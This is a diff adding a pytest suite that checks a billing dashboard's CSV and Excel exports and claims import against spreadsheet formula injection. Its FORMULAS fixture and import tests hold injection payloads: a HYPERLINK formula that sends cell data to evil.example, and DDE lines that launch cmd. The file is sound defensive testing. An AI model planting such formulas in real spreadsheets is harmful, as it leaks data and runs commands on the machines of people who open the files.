@@ -1,0 +1,208 @@
+"""Promise: text someone typed never turns into something else where it is shown or
+written. A name that looks like a formula is a name in every CSV and Excel file metdash
+writes, and the claims import refuses a formula instead of storing it."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import datetime as dt
+import io
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+import xlsxwriter
+
+from metdash import exports, weekly
+from metdash.figures import report_csv
+from metdash.spreadsheet import COLUMNS, import_claims, template
+from tests.entry_seed import AS_OF, seed
+from tests.security.test_transactions import claims_csv
+
+ROOT = Path(__file__).resolve().parents[2]
+
+# Text a spreadsheet would run as a formula (OWASP's list of first characters).
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "=1+1", "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory):
+    return seed(tmp_path_factory.mktemp("content") / "seed.duckdb")
+
+
+def _csv_cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+# -- exports: every CSV / XLSX written ------------------------------------------------------
+
+def test_a_download_csv_neutralises_formulas_and_keeps_numbers():
+    frame = pd.DataFrame({"name": FORMULAS + ["Smith"],
+                          "balance": [-12.5] * len(FORMULAS) + [3.0]})
+    rows = _csv_cells(exports.frame_csv(frame))
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Smith"]
+    assert {r[1] for r in rows[1:]} == {"-12.5", "3.0"}  # money stays a number
+
+
+def test_a_download_xlsx_writes_text_as_text_never_a_formula():
+    frame = pd.DataFrame({"name": FORMULAS, "balance": [-12.5] * len(FORMULAS),
+                          FORMULAS[1]: ["x"] * len(FORMULAS)})
+    ws = openpyxl.load_workbook(io.BytesIO(exports.frame_xlsx(frame, "t"))).active
+    names = [ws.cell(row=r, column=1) for r in range(2, len(FORMULAS) + 2)]
+    assert [c.data_type for c in names] == ["s"] * len(FORMULAS)  # 'f' would be a formula
+    # (openpyxl reads a stored carriage return back as its escape, _x000D_)
+    assert [c.value.replace("_x000D_", "\r") for c in names] == ["'" + f for f in FORMULAS]
+    assert ws.cell(row=2, column=2).data_type == "n" and ws.cell(row=2, column=2).value == -12.5
+    assert ws.cell(row=1, column=3).value == "'=1+1"  # a payer name as a column header
+
+
+def test_the_figures_report_csv_neutralises_names():
+    report = {"kpis": {"billed": -5.0},
+              "revenue_by_payer": [{"payer": "=1+1", "claims": 1, "billed": -5.0}],
+              "days_to_payment": [], "ar_aging": [], "denial_reasons": [],
+              "referrers": [{"npi": "1234567893", "name": "@SUM(A1)", "kind": "-x"}],
+              "write_offs": []}
+    cells = [c for row in _csv_cells(report_csv(report)) for c in row]
+    assert "'=1+1" in cells and "'@SUM(A1)" in cells and "'-x" in cells
+    assert "=1+1" not in cells and "@SUM(A1)" not in cells
+    assert "-5.0" in cells  # numbers are numbers
+
+
+def test_the_weekly_review_csv_neutralises_names():
+    names = pd.DataFrame({"referrer_id": [1], "name": ["=HYPERLINK(\"http://x\")"],
+                          "billed_12m": [-3.5]})
+    empty = pd.DataFrame()
+    review = weekly.WeeklyReview(dt.date(2025, 3, 24), dt.date(2025, 3, 30),
+                                 {k: 0 for k in weekly.SUMMARY_NAMES}, names, empty, empty,
+                                 empty, empty, empty,
+                                 pd.DataFrame({"name": ["n"], "+payer": [0.5]}), empty)
+    cells = [c for row in _csv_cells(weekly.review_csv(review)) for c in row]
+    assert "'=HYPERLINK(\"http://x\")" in cells and "'+payer" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+    assert "-3.5" in cells
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_the_claims_template_is_still_plain_text(kind):
+    data = template(kind)
+    if kind == "xlsx":
+        ws = openpyxl.load_workbook(io.BytesIO(data)).active
+        assert [c.value for c in ws[1]] == list(COLUMNS)
+        assert {c.data_type for c in ws[2] if c.value is not None} == {"s"}
+    else:
+        assert _csv_cells(data.decode())[0] == list(COLUMNS)
+
+
+WRITERS = ("to_csv", "to_excel", "ExcelWriter", "writer", "DictWriter", "Workbook")
+
+
+def test_no_csv_or_xlsx_is_written_outside_metdash_exports():
+    """A future download cannot skip the neutralising: only metdash/exports.py writes files
+    in these formats (reading with csv.reader / openpyxl is fine)."""
+    offenders = []
+    for path in [*(ROOT / "pages").glob("*.py"), *(ROOT / "metdash").rglob("*.py"),
+                 ROOT / "app.py"]:
+        if path == ROOT / "metdash" / "exports.py":
+            continue
+        for node in ast.walk(ast.parse(path.read_text())):
+            if isinstance(node, ast.Attribute) and node.attr in WRITERS:
+                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} .{node.attr}")
+            if isinstance(node, ast.Import | ast.ImportFrom):
+                mods = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
+                if any(m.startswith("xlsxwriter") for m in mods):
+                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} xlsxwriter")
+    assert not offenders, offenders
+
+
+# -- the claims import ------------------------------------------------------------------------
+
+def _sheet_with(column: str, value: str) -> str:
+    head, row = claims_csv(1).splitlines()
+    cells = dict(zip(COLUMNS, row.split(","), strict=True))
+    cells[column] = value
+    out = io.StringIO()
+    csv.writer(out, lineterminator="\n").writerows([head.split(","), [cells[c] for c in COLUMNS]])
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(("column", "value"), [
+    ("client_last_name", "=1+1"), ("client_first_name", '=HYPERLINK("http://x","y")'),
+    ("payer_name", "@SUM(A1)"), ("referrer_name", "=cmd|' /C calc'!A0"),
+    ("member_id", "@A1"), ("claim_id", "=K1"),
+])
+def test_the_claims_import_refuses_a_formula_in_a_text_column(store, column, value):
+    claims = store.scalar("SELECT count(*) FROM claims")
+    result = import_claims(store, _sheet_with(column, value).encode(), f"f-{column}.csv",
+                           "tester", as_of=AS_OF)
+    mine = [p for p in result.problems if p.startswith(f"row 2, {column}:")]
+    assert mine and "formula" in mine[0] and "values only" in mine[0], result.problems
+    assert store.scalar("SELECT count(*) FROM claims") == claims
+
+
+def test_the_claims_import_refuses_a_formula_typed_as_text_in_excel(store):
+    out = io.BytesIO()
+    wb = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
+    ws = wb.add_worksheet()
+    for r, row in enumerate(_csv_cells(_sheet_with("client_last_name", "=1+1"))):
+        for c, value in enumerate(row):
+            ws.write_string(r, c, value)
+    wb.close()
+    result = import_claims(store, out.getvalue(), "f.xlsx", "tester", as_of=AS_OF)
+    assert any(p.startswith("row 2, client_last_name:") and "formula" in p
+               for p in result.problems), result.problems
+
+
+def test_a_leading_plus_or_minus_is_not_a_formula_to_the_import(store):
+    """'+' and '-' begin real values (a phone, a hyphenated name): the import keeps them;
+    only the exports neutralise them."""
+    result = import_claims(store, _sheet_with("client_first_name", "-Ann").encode(),
+                           "plus.csv", "tester", as_of=AS_OF)
+    assert not [p for p in result.problems if "formula" in p], result.problems
+
+
+def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula():
+    frame = pd.DataFrame({"name": ["Smith\r=1+1", "Doe\n@SUM(A1)"], "n": [1, 2]})
+    for text in (exports.frame_csv(frame), exports.rows_csv(["name", "n"], frame.values)):
+        assert [r[0] for r in _csv_cells(text)[1:]] == ["Smith\r=1+1", "Doe\n@SUM(A1)"]
+
+
+def test_a_formula_is_reported_once_per_cell(store):
+    result = import_claims(store, _sheet_with("service_date", "=TODAY()").encode(), "d.csv",
+                           "tester", as_of=AS_OF)
+    assert len([p for p in result.problems if p.startswith("row 2, service_date:")]) == 1
+
+
+def _table_download_app():
+    import pandas as pd
+    import streamlit as st
+    from streamlit.delta_generator import DeltaGenerator
+
+    from metdash import ui
+
+    got = st.session_state.setdefault("got", [])
+    original = DeltaGenerator.download_button
+
+    def record(self, label, data, *args, **kwargs):
+        got.append(data() if callable(data) else data)  # files are built on click
+        return original(self, label, data, *args, **kwargs)
+
+    DeltaGenerator.download_button = record
+    try:
+        ui.table(pd.DataFrame({"referrer": ["=1+1"], "paid": [-12.5]}), key="t", download="r")
+    finally:
+        DeltaGenerator.download_button = original
+
+
+def test_a_page_table_download_neutralises_formulas():
+    from streamlit.testing.v1 import AppTest
+
+    at = AppTest.from_function(_table_download_app, default_timeout=60)
+    at.run()
+    assert not at.exception, [e.value for e in at.exception]
+    csv_bytes, xlsx_bytes = at.session_state["got"][:2]
+    assert _csv_cells(csv_bytes.decode())[1] == ["'=1+1", "-12.5"]
+    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes)).active
+    assert (ws["A2"].data_type, ws["A2"].value, ws["B2"].value) == ("s", "'=1+1", -12.5)
